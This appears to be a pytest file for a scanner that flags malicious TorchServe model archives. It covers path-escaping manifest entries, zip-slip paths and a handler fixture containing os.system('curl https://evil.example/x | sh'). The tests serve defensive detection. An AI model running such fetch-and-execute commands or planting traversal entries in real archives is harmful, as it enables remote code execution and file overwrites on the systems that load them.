from __future__ import annotations

import json
from typing import Any

import pytest
from tests.formats.assemble import Zip, checkpoint, tensor
from tests.scan.examine import examine

from modelward.core.finding import Verdict
from modelward.formats.facts import PathEscape
from modelward.formats.mar import findings, is_manifest

HANDLER = "from ts.torch_handler.base_handler import BaseHandler\n\nclass Scorer(BaseHandler):\n    pass\n"


def manifest(**model: Any) -> dict[str, Any]:
    fields = {
        "modelName": "scorer",
        "serializedFile": "model.pt",
        "handler": "handler.py",
        "modelVersion": "1.0",
    }
    return {"runtime": "python", "model": fields | model, "archiverVersion": "0.12.0"}


def mar(code: str = HANDLER, **model: Any) -> bytes:
    weights = checkpoint(tensor(), storages={"0": bytes(16)}).bytes()
    made = Zip().add("MAR-INF/MANIFEST.json", json.dumps(manifest(**model)).encode())
    return made.add("handler.py", code.encode()).add("model.pt", weights).bytes()


NAMES = frozenset({"MAR-INF/MANIFEST.json", "handler.py", "model.pt", "package/handler.py"})


@pytest.mark.parametrize("key", ["handler", "modelFile", "serializedFile", "requirementsFile", "extraFiles"])
@pytest.mark.parametrize(
    "path", ["../../etc/cron.d/x", "/etc/passwd", "C:\\x.py", "https://evil.example/x.py"]
)
def test_manifest_that_names_files_elsewhere(key: str, path: str) -> None:
    (found,) = findings(manifest(**{key: path}), "MAR-INF/MANIFEST.json", NAMES)
    assert isinstance(found, PathEscape)


def test_handler_that_is_not_in_the_archive() -> None:
    (found,) = findings(manifest(handler="elsewhere:run"), "MAR-INF/MANIFEST.json", NAMES)
    assert found.what == "a handler that is not in the archive"  # type: ignore[union-attr]


@pytest.mark.parametrize(
    "handler",
    ["handler.py", "handler", "handler:run", "handler.py:run", "package.handler", "image_classifier"],
)
def test_near_miss(handler: str) -> None:
    document = manifest(handler=handler, extraFiles="index.json,vocab.txt")
    assert list(findings(document, "MAR-INF/MANIFEST.json", NAMES)) == []


@pytest.mark.parametrize("document", [[], {}, {"model": 3}, {"model": {"handler": 3, "extraFiles": 4}}])
def test_manifest_without_a_model(document: Any) -> None:
    assert list(findings(document, "MAR-INF/MANIFEST.json", NAMES)) == []


@pytest.mark.parametrize(
    ("name", "is_one"),
    [("MAR-INF/MANIFEST.json", True), ("a/WAR-INF/MANIFEST.json", True), ("MANIFEST.json", False)],
)
def test_place_of_the_manifest(name: str, is_one: bool) -> None:
    assert is_manifest(name) is is_one


def test_archive_as_the_server_gets_it() -> None:
    assert examine(mar(), "scorer.mar").verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "file",
    [
        mar(HANDLER + "import os\nos.system('curl https://evil.example/x | sh')\n"),
        mar(handler="../../handler.py"),
        Zip().add("MAR-INF/MANIFEST.json", b"{}").add("../../../.bashrc", b"x").bytes(),
    ],
    ids=["handler", "manifest", "zip-slip"],
)
def test_malicious_archive(file: bytes) -> None:
    assert examine(file, "scorer.mar").verdict is Verdict.MALICIOUS
